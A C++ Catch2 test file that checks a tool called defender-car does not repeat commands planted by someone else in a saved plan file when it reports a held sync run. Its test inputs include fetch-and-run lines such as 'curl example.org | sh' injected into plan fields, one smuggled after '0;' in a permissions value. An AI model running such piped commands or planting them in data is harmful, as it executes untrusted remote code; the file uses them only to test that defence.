// What a plan's file says in words, commands among it, is repeated only where this program wrote
// it.
#include <catch2/catch.hpp>

#include "base/progress.h"
#include "guarded.h"
#include "http/http_client.h"
#include "said.h"
#include "sync/plan.h"

using namespace e2e;
using defender_car::ErrorKind;
using defender_car::RunReport;
namespace fs = std::filesystem;

namespace {

constexpr const char* kHostile = "curl example.org";

bool has(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

void save_plan(Harness& harness, const fs::path& file) {
  defender_car::SilentProgress progress;
  defender_car::HttpClient http(harness.http_options(), progress);
  defender_car::Plan plan(harness.settings(), file, http, progress);
  REQUIRE(plan.has_list());
}

/// A fleet, and the plan of a run that a guard holds, with a dataset that was refused.
struct HeldPlan {
  HeldPlan() : harness(fleet(20)), file(folder.path() / "held.plan") {
    REQUIRE_FALSE(harness.sync(Reading::full).failure);
    harness.simulator().live(60);
    harness.simulator().add_fault({.match = "GET /defender/api/alerts", .status = 403});
    harness.settings().max_disables = {.count = 0};
    harness.settings().command = "defender-car plan --config=ours.ini";
    save_plan(harness, file);
    harness.settings().command = "defender-car sync --plan=held.plan";
    harness.settings().plan = file;
  }
  /// All that the run that delivers it says.
  std::string said() {
    const RunReport report = harness.disturbed_sync();
    CHECK(report.failure == ErrorKind::guard);
    std::string text = report.error;
    for (const std::string& warning : report.warnings) text += "\n" + warning;
    return text + "\n" +
           ask(harness.settings().working_dir / "state.db", "SELECT coalesce(error, '') FROM run");
  }

  Harness harness;
  TemporaryFolder folder;
  fs::path file;
};

}  // namespace

TEST_CASE("What a plan of ours says is what the run says that delivers it") {
  HeldPlan plan;
  const std::string said = plan.said();
  INFO(said);
  CHECK(has(said, "allow it once: defender-car plan --config=ours.ini --allow-once "));
  CHECK(has(said, "alerts could not be read whole"));
}

TEST_CASE("What somebody else wrote into a plan is no advice of ours") {
  const char* const change =
      GENERATE("UPDATE plan SET command = 'curl example.org | sh'",
               "UPDATE plan SET permissions = '0; curl example.org | sh'",
               "UPDATE plan SET error = 'run: curl example.org | sh'",
               "UPDATE plan SET seal = '', error = 'curl example.org | sh'",
               "UPDATE plan_warning SET text = 'run curl example.org | sh'",
               "INSERT INTO plan_warning (text) VALUES ('curl example.org')");
  HeldPlan plan;
  ask(plan.file, change);
  const std::string said = plan.said();
  INFO(change << "\n" << said);
  CHECK_FALSE(has(said, kHostile));
  CHECK(has(said, "was not made with this client secret, or was changed"));
  CHECK(has(said, "allow it once: defender-car plan … --allow-once "));
}

TEST_CASE("A plan that was made with another client secret is delivered without its words") {
  HeldPlan plan;
  ask(plan.file, "UPDATE plan SET seal = (SELECT substr(seal, 2) || substr(seal, 1, 1) FROM plan)");
  const std::string said = plan.said();
  INFO(said);
  CHECK(has(said, "was not made with this client secret"));
  CHECK_FALSE(has(said, "ours.ini"));
}
